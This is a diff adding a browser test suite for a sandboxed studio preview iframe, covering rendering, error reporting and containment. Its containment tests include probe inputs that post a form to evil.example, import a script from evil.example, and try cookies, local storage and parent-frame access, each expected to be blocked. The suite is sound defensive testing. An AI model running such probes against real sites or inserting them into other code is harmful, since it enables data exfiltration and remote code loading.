@@ -1,0 +1,284 @@
+// The preview frame in a real Chromium, driven as the studio drives it: from another origin, over a port.
+import { createServer, type Server } from 'node:http';
+import { compile } from '@vys/compiler';
+import { fontPath, PREVIEW_PATH } from '@vys/contract/preview';
+import type { Browser, Frame, Page } from 'playwright-core';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { startChromium } from '../../../test/chromium.ts';
+import { startTestSite, type TestSite } from '../../../test/site.ts';
+
+let test: TestSite;
+let studio: Server;
+let browser: Browser;
+let page: Page;
+
+// What the studio does, in a few lines: it keeps every message, and `ask` waits for the answer to a render.
+const studioScript = `
+  const frame = document.createElement('iframe');
+  frame.sandbox = 'allow-scripts';
+  window.messages = [];
+  window.readies = [];
+  const nonce = 'n-1';
+  let port;
+  window.connected = new Promise((resolve) => {
+    addEventListener('message', (event) => {
+      window.readies.push({ data: event.data, origin: event.origin, known: event.source === frame.contentWindow });
+      if (event.source !== frame.contentWindow || event.data.nonce !== nonce) return;
+      const channel = new MessageChannel();
+      port = channel.port1;
+      port.onmessage = ({ data }) => window.messages.push(data);
+      frame.contentWindow.postMessage({ type: 'vys-preview-connect', nonce }, '*', [channel.port2]);
+      resolve();
+    });
+  });
+  window.post = (message) => port.postMessage(message);
+  frame.src = FRAME + '#nonce=' + nonce;
+  document.body.append(frame);
+`;
+
+beforeAll(async () => {
+  test = await startTestSite();
+  studio = createServer((_request, response) => {
+    const script = studioScript.replace('FRAME', JSON.stringify(test.origin + PREVIEW_PATH));
+    response.setHeader('content-type', 'text/html');
+    response.end(`<!doctype html><body><script>${script}</script>`);
+  });
+  await new Promise<void>((resolve) => studio.listen(test.config.appPort, 'localhost', resolve));
+  browser = await startChromium();
+});
+
+afterAll(async () => {
+  await browser.close();
+  await test.site.close();
+  studio.close();
+});
+
+beforeEach(async () => {
+  await page?.close();
+  page = await browser.newPage();
+  await page.goto(test.config.appOrigin);
+  await page.evaluate('connected');
+});
+
+let lastId = 0;
+
+async function render(jsx: string, css = '', fontFaces = ''): Promise<Answer> {
+  const compiled = compile({ jsx, css, metadata: { title: 'Anna', description: '' } });
+  if (!compiled.ok) throw new Error(JSON.stringify(compiled.diagnostics));
+  return await renderCode(compiled.code, compiled.css, fontFaces);
+}
+
+type Answer = { type: string; id: number; height?: number; message?: string };
+
+async function renderCode(code: string, css = '', fontFaces = ''): Promise<Answer> {
+  lastId += 1;
+  const id = lastId;
+  await page.evaluate((message) => (globalThis as unknown as Studio).post(message), {
+    type: 'render',
+    id,
+    code,
+    css,
+    fontFaces,
+    title: 'Anna',
+  });
+  return await message((one) => one.id === id);
+}
+
+type Studio = { post(message: unknown): void; messages: Answer[]; readies: unknown[] };
+
+async function message(wanted: (one: Answer & { href?: string }) => boolean): Promise<Answer> {
+  for (let tries = 0; tries < 500; tries += 1) {
+    const all = await page.evaluate(() => (globalThis as unknown as Studio).messages);
+    const found = all.find(wanted);
+    if (found) return found;
+    await page.waitForTimeout(10);
+  }
+  throw new Error('the frame said nothing');
+}
+
+const frame = (): Frame => page.frames()[1] as Frame;
+const text = () => frame().locator('#page').textContent();
+const seen = () => frame().locator('vys-preview-panel div:visible').allInnerTexts().then(String);
+
+describe('a render', () => {
+  it('is shown and answered with its height', async () => {
+    const answer = await render(
+      `import { useState } from 'react';
+       import clsx from 'clsx';
+       export default function Page() {
+         const [count, setCount] = useState(0);
+         return <main className={clsx('a', 'b')}><h1>Hello</h1><button onClick={() => setCount(count + 1)}>{count}</button></main>;
+       }`,
+      'main{height:700px}',
+    );
+    expect(answer.type).toBe('rendered');
+    expect(answer.height).toBeGreaterThanOrEqual(700);
+    await frame().locator('button').click();
+    await expect.poll(text).toContain('1');
+    expect(await frame().locator('main').getAttribute('class')).toBe('a b');
+  });
+
+  it('is answered when it is the same again', async () => {
+    const jsx = 'export default () => <p>Same</p>;';
+    const answers = [await render(jsx), await render(jsx), await render(jsx)];
+    expect(answers.map((answer) => answer.type)).toEqual(Array(3).fill('rendered'));
+  });
+
+  it('is answered in a hidden tab, where nothing is painted', async () => {
+    await frame().evaluate('globalThis.requestAnimationFrame = () => 0');
+    const jsx = `import { useEffect, useState } from 'react';
+      export default function Page() {
+        const [text, setText] = useState('before');
+        useEffect(() => setText('after'), []);
+        return <p>{text}</p>;
+      }`;
+    expect((await render(jsx)).type).toBe('rendered');
+    await expect.poll(text).toBe('after');
+  });
+
+  it('takes its fonts from the pages origin', async () => {
+    const url = test.origin + fontPath('files/sora-latin-wght-normal.woff2');
+    await render(
+      'export default () => <p>Font</p>;',
+      'p{font-family:Sora}',
+      `@font-face{font-family:Sora;src:url("${url}") format("woff2")}`,
+    );
+    await expect
+      .poll(() =>
+        frame().evaluate('document.fonts.ready.then(() => document.fonts.check("16px Sora"))'),
+      )
+      .toBe(true);
+  });
+});
+
+describe('a failing page', () => {
+  const good = 'export default () => <p>Good</p>;';
+
+  it.each([
+    [
+      'while it is drawn',
+      'export default () => { throw new TypeError("no such thing"); };',
+      'TypeError: no such thing',
+    ],
+    [
+      'at its top level',
+      'const a = undefinedName; export default () => <p>{a}</p>;',
+      'ReferenceError: undefinedName is not defined',
+    ],
+    [
+      'in a part of it',
+      'const Part = () => null.x; export default () => <div><Part /></div>;',
+      'TypeError',
+    ],
+  ])(
+    'STUDIO-20 %s says Runtime Error and leaves the last good one standing',
+    async (_, jsx, words) => {
+      await render(good, 'p{color:rgb(1, 2, 3)}');
+      const answer = await render(jsx, 'p{color:red}');
+      expect(answer.type).toBe('failed');
+      expect(answer.message).toContain(words);
+      expect(await text()).toBe('Good');
+      expect(
+        await frame()
+          .locator('#page p')
+          .evaluate('getComputedStyle(document.querySelector("p")).color'),
+      ).toBe('rgb(1, 2, 3)');
+      expect(await seen()).toContain('Runtime Error');
+      await render(good);
+      expect(await seen()).not.toContain('Runtime Error');
+    },
+  );
+
+  it('names an import that is not on the shelf', async () => {
+    const answer = await renderCode('require("left-pad")');
+    expect(answer).toMatchObject({
+      type: 'failed',
+      message: 'Error: "left-pad" is not on the shelf',
+    });
+  });
+
+  it.each([
+    ['in a handler', 'onClick={() => { throw new Error("late"); }}'],
+    ['in a promise', 'onClick={async () => { throw new Error("late"); }}'],
+    ['in an update', 'onClick={() => setBroken(true)}'],
+  ])('tells of a fault %s', async (_, handler) => {
+    await render(`import { useState } from 'react';
+      export default function Page() {
+        const [broken, setBroken] = useState(false);
+        if (broken) throw new Error('late');
+        return <button ${handler}>Press</button>;
+      }`);
+    await frame().locator('button').click();
+    expect((await message((one) => one.type === 'error')).message).toBe('Error: late');
+    await expect.poll(text).toBe('Press');
+    await expect.poll(seen).toContain('Runtime Error');
+  });
+});
+
+describe('a page that wants out', () => {
+  it('does not follow links, but tells where they lead', async () => {
+    await render('export default () => <a href="https://shop.example/x">Shop</a>;');
+    await frame().locator('a').click();
+    expect(await message((one) => one.type === 'navigate')).toMatchObject({
+      href: 'https://shop.example/x',
+    });
+    expect(await seen()).toContain('Would open https://shop.example/x');
+    expect(frame().url()).toContain(PREVIEW_PATH);
+  });
+
+  it('sends no form', async () => {
+    await render(
+      'export default () => <form action="https://evil.example/" method="post"><button>Send</button></form>;',
+    );
+    await frame().locator('button').click();
+    await render('export default () => <p>Still here</p>;');
+    expect(await text()).toBe('Still here');
+  });
+
+  it.each<[string, string]>([
+    ['fetch', 'fetch("/anna").then(() => "out", () => "kept in")'],
+    ['a foreign script', 'import("https://evil.example/x.js").then(() => "out", () => "kept in")'],
+    [
+      'local storage',
+      '(() => { try { localStorage.x = 1; return "out"; } catch { return "kept in"; } })()',
+    ],
+    [
+      'cookies',
+      '(() => { try { document.cookie = "a=b"; return document.cookie ? "out" : "kept in"; } catch { return "kept in"; } })()',
+    ],
+    [
+      'the studio',
+      '(() => { try { return parent.document ? "out" : ""; } catch { return "kept in"; } })()',
+    ],
+    ['a new window', 'window.open("about:blank") ? "out" : "kept in"'],
+    ['its own origin', 'self.origin === "null" ? "kept in" : "out"'],
+  ])('cannot use %s', async (_, expression) => {
+    await render('export default () => <p>Hello</p>;');
+    expect(await frame().evaluate(expression)).toBe('kept in');
+  });
+
+  it('cannot be shown by anybody but the studio', async () => {
+    const other = createServer((_request, response) => {
+      response.setHeader('content-type', 'text/html');
+      response.end(`<iframe src="${test.origin}${PREVIEW_PATH}"></iframe>`);
+    });
+    await new Promise<void>((resolve) => other.listen(0, 'localhost', resolve));
+    const address = other.address() as { port: number };
+    const visit = await browser.newPage();
+    await visit.goto(`http://localhost:${address.port}/`);
+    const shown = await visit
+      .frames()[1]
+      ?.evaluate('document.querySelector("#page") !== null')
+      .catch(() => false);
+    expect(shown ?? false).toBe(false);
+    await visit.close();
+    other.close();
+  });
+});
+
+it('says it is ready once per load, with its nonce, from an opaque origin', async () => {
+  const readies = await page.evaluate(() => (globalThis as unknown as Studio).readies);
+  expect(readies).toEqual([
+    { data: { type: 'vys-preview-ready', nonce: 'n-1' }, origin: 'null', known: true },
+  ]);
+});
